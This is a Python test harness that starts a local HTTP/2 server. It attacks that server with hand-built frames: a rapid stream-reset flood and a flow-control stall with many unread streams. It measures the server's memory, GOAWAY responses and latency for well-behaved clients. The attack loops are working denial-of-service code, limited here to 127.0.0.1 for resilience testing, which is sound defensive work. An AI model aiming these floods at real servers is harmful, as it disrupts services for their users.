#!/usr/bin/env python3
"""Attacks an HTTP/2 server as a hostile client would and reports what it costs the server.

Two attacks, each for --seconds, with the server's resident memory (VmRSS) sampled every
0.2 s and a fresh well-behaved client asking GET / on a new connection every 0.5 s (the
"fresh clients answered during the attack" figure):

  reset  --attackers K: K connections (reconnecting when closed) that open a stream of
         /sleep?ms=10000 and reset it, in a loop; counts the GOAWAYs they get, by code.
  stall  --conns C --streams S: C connections that each open S streams of /big?bytes=B (all at
         once, or one every --pace seconds) and never open their flow-control window (they
         read and discard what arrives, and answer SETTINGS and PING as a client must); counts
         the streams refused and how the connections ended.

    cargo build --release -p spindle-perf
    python3 perf/h2_abuse_probe.py reset -- target/release/h2_abuse_server
    python3 perf/h2_abuse_probe.py stall --conns 20 --streams 100 -- target/release/h2_abuse_server

The server command is started by the script; it must print "listening on ADDR" first.
Traffic stays on 127.0.0.1. Frames are written by hand (RFC 9113), request headers as HPACK
literals; response headers are not decoded.
"""

import argparse
import collections
import socket
import struct
import subprocess
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 0xB: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get_block(path):
    block = bytearray([0x82, 0x86])  # :method GET, :scheme http
    for index, value in ((4, path), (1, "localhost")):  # :path, :authority
        block += bytes([index, len(value)]) + value.encode()
    return bytes(block)


def read_frame(sock, buf):
    """The next frame from `sock` (buffered in `buf`), or None at the connection's end."""
    while True:
        if len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) >= 9 + length:
                head, payload = bytes(buf[:9]), bytes(buf[9 : 9 + length])
                del buf[: 9 + length]
                return head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload
        try:
            chunk = sock.recv(65536)
        except OSError:
            return None
        if not chunk:
            return None
        buf += chunk


def answer_control(sock, kind, flags, payload):
    """A client's duties: acknowledge SETTINGS and PING."""
    try:
        if kind == SETTINGS and not flags & 1:
            sock.sendall(frame(SETTINGS, 1, 0))
        elif kind == PING and not flags & 1:
            sock.sendall(frame(PING, 1, 0, payload))
    except OSError:
        pass


def connect(addr):
    sock = socket.create_connection(addr)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


class Sampler(threading.Thread):
    """Samples the server's VmRSS (KiB) until stopped."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.samples, self.stop = pid, [], threading.Event()

    def rss(self):
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
        return 0

    def run(self):
        while not self.stop.is_set():
            self.samples.append((time.monotonic(), self.rss()))
            time.sleep(0.2)


class Fresh(threading.Thread):
    """A well-behaved client: GET / on a new connection every 0.5 s, each within 5 s."""

    def __init__(self, addr):
        super().__init__(daemon=True)
        self.addr, self.ok, self.failed, self.latencies, self.stop = addr, 0, 0, [], threading.Event()

    def once(self):
        start = time.monotonic()
        sock = connect(self.addr)
        sock.settimeout(5)
        try:
            sock.sendall(frame(HEADERS, 0x5, 1, get_block("/")))
            buf = bytearray()
            while True:
                f = read_frame(sock, buf)
                if f is None:
                    return False
                kind, flags, stream, payload = f
                answer_control(sock, kind, flags, payload)
                if stream == 1 and kind == DATA and flags & 1:
                    self.latencies.append(time.monotonic() - start)
                    return True
                if stream == 1 and kind == RST_STREAM:
                    return False
        finally:
            sock.close()

    def run(self):
        while not self.stop.is_set():
            try:
                ok = self.once()
            except OSError:
                ok = False
            if ok:
                self.ok += 1
            else:
                self.failed += 1
            time.sleep(0.5)


def reset_attacker(addr, deadline, goaways, counts):
    while time.monotonic() < deadline:
        try:
            sock = connect(addr)
        except OSError:
            time.sleep(0.01)
            continue
        counts["connections"] += 1
        buf = bytearray()
        ended = threading.Event()

        def reader():
            while True:
                f = read_frame(sock, buf)
                if f is None:
                    break
                kind, flags, _, payload = f
                answer_control(sock, kind, flags, payload)
                if kind == GOAWAY:
                    goaways[CODES.get(int.from_bytes(payload[4:8], "big"), "other")] += 1
            ended.set()

        threading.Thread(target=reader, daemon=True).start()
        stream = 1
        block = get_block("/sleep?ms=10000")
        try:
            while not ended.is_set() and time.monotonic() < deadline and stream < 0x7FFFFFF0:
                # The request, then its reset, in separate writes: the server accepts the stream
                # before the reset arrives (a reset of a stream not yet accepted is h2's own case).
                sock.sendall(frame(HEADERS, 0x5, stream, block))
                sock.sendall(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                counts["streams"] += 1
                stream += 2
        except OSError:
            pass
        sock.close()
        ended.wait(2)


def stall_connection(addr, streams, size, pace, ends):
    sock = connect(addr)
    buf, why = bytearray(), "closed"

    def opener():
        try:
            for i in range(streams):
                sock.sendall(frame(HEADERS, 0x5, 1 + 2 * i, get_block(f"/big?bytes={size}")))
                time.sleep(pace)
        except OSError:
            pass

    threading.Thread(target=opener, daemon=True).start()
    while True:
        f = read_frame(sock, buf)
        if f is None:
            break
        kind, flags, _, payload = f
        answer_control(sock, kind, flags, payload)
        if kind == RST_STREAM:
            ends["streams refused"] += 1
        if kind == GOAWAY:
            why = "GOAWAY " + CODES.get(int.from_bytes(payload[4:8], "big"), "other") + " " + payload[8:].decode(errors="replace")
    ends[why] += 1
    sock.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["reset", "stall"])
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--attackers", type=int, default=4)
    parser.add_argument("--conns", type=int, default=20)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--bytes", type=int, default=1 << 20)
    parser.add_argument("--pace", type=float, default=0, help="stall: seconds between a connection's streams")
    argv = sys.argv[1:]
    split = argv.index("--") if "--" in argv else len(argv)
    args = parser.parse_args(argv[:split])
    command = argv[split + 1 :]
    if not command:
        parser.error("the server command is missing (after --)")
    server = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    try:
        line = server.stdout.readline()
        host, port = line.strip().rsplit(" ", 1)[1].rsplit(":", 1)
        addr = (host, int(port))
        time.sleep(0.3)
        sampler, fresh = Sampler(server.pid), Fresh(addr)
        base = sampler.rss()
        sampler.start()
        fresh.start()
        deadline = time.monotonic() + args.seconds
        counts, outcome = collections.Counter(), collections.Counter()
        if args.attack == "reset":
            threads = [threading.Thread(target=reset_attacker, args=(addr, deadline, outcome, counts), daemon=True) for _ in range(args.attackers)]
        else:
            threads = [threading.Thread(target=stall_connection, args=(addr, args.streams, args.bytes, args.pace, outcome), daemon=True) for _ in range(args.conns)]
        for t in threads:
            t.start()
        while time.monotonic() < deadline:
            time.sleep(0.2)
        sampler.stop.set()
        fresh.stop.set()
        peak = max(rss for _, rss in sampler.samples)
        last = sampler.samples[-1][1]
        print(f"attack: {args.attack}, {args.seconds:.0f} s")
        print(f"server RSS: before {base / 1024:.1f} MiB, peak {peak / 1024:.1f} MiB, at the end {last / 1024:.1f} MiB")
        print("RSS every 5 s (MiB): " + " ".join(f"{rss / 1024:.0f}" for _, rss in sampler.samples[::25]))
        if args.attack == "reset":
            print(f"attack connections: {counts['connections']}, streams opened and reset: {counts['streams']}")
            print("GOAWAYs the attackers got: " + (", ".join(f"{k} {v}" for k, v in sorted(outcome.items())) or "none"))
        else:
            print(f"connections still open at the end: {sum(t.is_alive() for t in threads)} of {args.conns}")
            print("ended: " + (", ".join(f"{k}: {v}" for k, v in sorted(outcome.items())) or "none yet"))
        lat = sorted(fresh.latencies)
        p = (lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] * 1000) if lat else (lambda q: float("nan"))
        print(f"fresh clients: {fresh.ok} answered, {fresh.failed} not; latency median {p(0.5):.1f} ms, max {p(1.0):.1f} ms")
    finally:
        server.kill()
        server.wait()


if __name__ == "__main__":
    sys.exit(main())
